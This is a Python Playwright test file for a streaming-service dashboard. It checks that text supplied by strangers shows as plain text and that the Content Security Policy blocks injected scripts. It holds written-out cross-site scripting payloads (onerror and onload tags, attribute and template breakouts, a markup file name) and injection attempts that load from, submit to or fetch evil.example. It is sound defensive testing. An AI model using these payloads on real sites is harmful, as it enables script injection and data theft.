"""Pages that show what strangers wrote: scripts in it do not run, and the policy would stop those that came through."""

import asyncio
import re
from collections.abc import Callable, Coroutine, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any, TypeVar
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from kit.browser import Tab
from kit.service_program import ServiceProgram
from kit.shared_service import KEY_ID, SECRET
from streamferry.media.url import MediaUrl
from streamferry.store import Seal, Store
from streamferry.store.database import read_now_ms
from streamferry.store.events import NewEvent, append
from streamferry.store.schema import delivery, mailbox, run, task
from streamferry.tasks.model import TaskItem, TaskKind, TaskSpec

#: Each way in calls ``hit`` with a number of its own. No white space, which addresses do not hold.
MARKUP = "<img/src=x/onerror=hit(1)><svg/onload=hit(2)><script>hit(3)</script>"
BREAKS = "\"/onmouseover=hit(4)/x='-hit(5)-'`+hit(6)+`${hit(7)}</script><script>hit(8)</script>"
TEMPLATE = "{{hit(9)}}{{constructor.constructor('hit(10)')()}}"
PAYLOAD = MARKUP + BREAKS + TEMPLATE
FILE_NAME = f"<img src=x onerror=hit(11)>{TEMPLATE}.mp4"
ADD = "const one = Object.assign(document.createElement(tag), values); document.body.append(one); return one"
T = TypeVar("T")
COUNT = "window.ran = []; window.hit = number => { window.ran.push(number) }"


@pytest.fixture
def task_id(shared_service: ServiceProgram) -> Iterator[str]:
    """A task whose every text is markup, also those that the front ends would refuse: they are not to be relied on. And
    a file in the library whose name is markup."""
    folder = shared_service.data / "library"
    folder.mkdir(exist_ok=True)
    (folder / FILE_NAME).touch()
    yield elsewhere(plant(shared_service))
    elsewhere(uproot(shared_service))


def elsewhere(work: Coroutine[Any, Any, T]) -> T:
    """Playwright's loop is this thread's."""
    with ThreadPoolExecutor(1) as other:
        return other.submit(asyncio.run, work).result()


async def plant(service: ServiceProgram) -> str:
    start_at = datetime.now(UTC) + timedelta(hours=1)
    async with service.actions() as actions:
        await actions.create_group(PAYLOAD[:64], "project")
        made = await actions.create_task(
            TaskSpec(
                TaskKind.VOD,
                tuple(TaskItem(MediaUrl.parse(f"http://files.example/{PAYLOAD}/{name}")) for name in (MARKUP, "a.mp4")),
                MediaUrl.parse(f"rtmp://push.example/{PAYLOAD}/key"),
                start_at,
                start_at + timedelta(hours=1),
                title=PAYLOAD,
                group=PAYLOAD[:64],
                callback_url=f"http://calls.example/{PAYLOAD}",
            )
        )
    store = Store(service.store_url, Seal((service.data / "seal.key").read_text().strip()))
    trouble = {"state": "retrying", "fault": "user_source", "reason": PAYLOAD, "trouble_tries": 3}
    trouble |= {"trouble_fault": "user_source", "trouble_reason": PAYLOAD}
    async with store.write() as connection:
        now_ms = await read_now_ms(connection)
        detail = {"reason": PAYLOAD, "fault": "user_source", "to": PAYLOAD, "version": PAYLOAD}
        kinds = ("retrying", "failed", PAYLOAD[:24])
        await append(connection, [NewEvent(made, kind, now_ms, detail) for kind in kinds])
        # It has begun, and no worker takes it.
        for change in (
            task.update().where(task.c.id == made).values(start_ms=now_ms - 60_000),
            run.update().where(run.c.task_id == made).values(trouble_ms=now_ms, due_ms=None, **trouble),
            mailbox.update().where(mailbox.c.task_id == made).values(failures=3),
            delivery.update()
            .where(delivery.c.task_id == made)
            .values(problem=PAYLOAD, state="dead", settled_ms=now_ms, attempts=3),
        ):
            await connection.execute(change)
    await store.aclose()
    return made


async def uproot(service: ServiceProgram) -> None:
    """Delete what no front end would take the name of."""
    async with service.actions() as actions:
        for one in (await actions.list_tasks()).records:
            await actions.delete_task(one.task_id)
        await actions.delete_group(PAYLOAD[:64])


def test_what_strangers_wrote_is_text_on_every_page(
    shared_service: ServiceProgram, task_id: str, open_tab: Callable[..., Tab]
) -> None:
    """Titles, groups, addresses, reasons, events, callbacks, file names, searches and what stands in the address.

    Nothing was even tried that the policy had to stop.
    """
    tab = open_tab(shared_service.url)
    page = tab.page
    page.add_init_script(COUNT)
    page.goto(f"dashboard/sign-in?next={quote(f'/dashboard/{PAYLOAD}')}")
    page.locator("[name=access_key_id]").fill(PAYLOAD)
    page.locator("[name=secret]").fill(PAYLOAD)
    page.locator("[type=submit]").click()
    expect(page.get_by_role("alert")).to_be_visible()
    expect(page.locator("[name=access_key_id]")).to_have_value(PAYLOAD[:128])
    nothing_ran(page)
    tab.enter(KEY_ID, SECRET)
    page.goto("dashboard/")
    expect(page.locator(".problem-line")).to_contain_text(TEMPLATE)
    nothing_ran(page)
    page.goto(f"dashboard/tasks?q={quote(PAYLOAD)}&group={quote(PAYLOAD)}&state={quote(PAYLOAD)}")
    expect(page.locator(".page")).to_be_visible()
    nothing_ran(page)
    page.goto("dashboard/tasks")
    for width in (390, 1360):
        page.set_viewport_size({"width": width, "height": 900})
        expect(page.locator(".task-card" if width == 390 else ".task-row")).to_be_visible()
        expect(page.locator("a.line-title")).to_have_text(PAYLOAD)
        expect(page.locator("div.problem").first).to_contain_text(TEMPLATE)
        expect(page.locator("div.problem").last).to_have_text("Callbacks are not taken; failed tries in a row: 3.")
        nothing_ran(page)
    page.locator("a.line-title").click()
    expect(page.locator("h1")).to_have_text(PAYLOAD)
    expect(page.locator(".problem-bar")).to_contain_text(TEMPLATE)
    expect(page.get_by_text("Callbacks are not taken")).to_be_visible()
    for name in ("Problems", "All", "Callbacks"):
        page.get_by_role("tab", name=name, exact=True).click()
        expect(page.locator(".log-line:visible").first).to_be_visible()
        nothing_ran(page)
    expect(page.locator(".log-line:visible").first).to_contain_text(TEMPLATE)
    page.get_by_role("button", name="More").click()
    page.get_by_text("As API request").click()
    expect(page.get_by_role("dialog")).to_contain_text(TEMPLATE)
    nothing_ran(page)
    page.keyboard.press("Escape")
    page.goto(f"dashboard/tasks/{task_id}/edit")
    expect(page.get_by_label(re.compile("^Title"))).to_have_value(PAYLOAD)
    nothing_ran(page)
    page.goto(f"dashboard/new?file={quote(PAYLOAD)}")
    expect(page.get_by_label(re.compile("^File: https"))).to_have_value(re.compile("hit"))
    page.get_by_role("button", name="From the library").click()
    expect(page.get_by_role("dialog")).to_contain_text(FILE_NAME)
    nothing_ran(page)
    page.goto("dashboard/library")
    expect(page.locator(".line-title")).to_have_text(FILE_NAME)
    page.get_by_role("button", name=re.compile("^Delete")).click()
    expect(page.get_by_role("dialog")).to_contain_text(FILE_NAME)
    nothing_ran(page)


def nothing_ran(page: Page) -> None:
    """Not now, nor once all pictures have failed and all is drawn."""
    for one in page.locator("[onmouseover]").all():
        one.hover()
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
    assert page.evaluate("window.ran") == []


#: Ways in for what would have come through as markup.
ATTEMPTS = (
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit(1)>')",
    "add('script', {text: 'hit(2)'})",
    "add('script', {src: 'http://evil.example/x.js'})",
    "add('script', {src: 'data:text/javascript,hit(3)'})",
    "add('iframe', {srcdoc: '<script>top.hit(4)</script>'})",
    "add('object', {data: 'data:text/html,x'})",
    "add('a', {href: 'javascript:hit(5)'}).click()",
    "add('base', {href: 'http://evil.example/'})",
    "add('form', {action: 'http://evil.example/'}).submit()",
    "new Image().src = 'http://evil.example/x.gif'",
    "fetch('http://evil.example/').catch(() => 0)",
)


def test_markup_that_came_through_would_do_nothing(
    shared_service: ServiceProgram, open_tab: Callable[..., Tab]
) -> None:
    """No script in markup or attributes, nothing from or to another host, no frame, no other base."""
    tab = open_tab(shared_service.url, is_hostile=True)
    page = tab.page
    page.add_init_script(COUNT)
    tab.enter(KEY_ID, SECRET)
    page.goto("dashboard/library")
    for attempt in ATTEMPTS:
        page.evaluate(f"() => {{ const add = (tag, values) => {{ {ADD} }}; {attempt} }}")
        tab.wait_problem("Content Security Policy")
        page.evaluate("() => new Promise(done => setTimeout(done, 50))")
        assert page.evaluate("window.ran") == [], attempt
        tab.problems.clear()
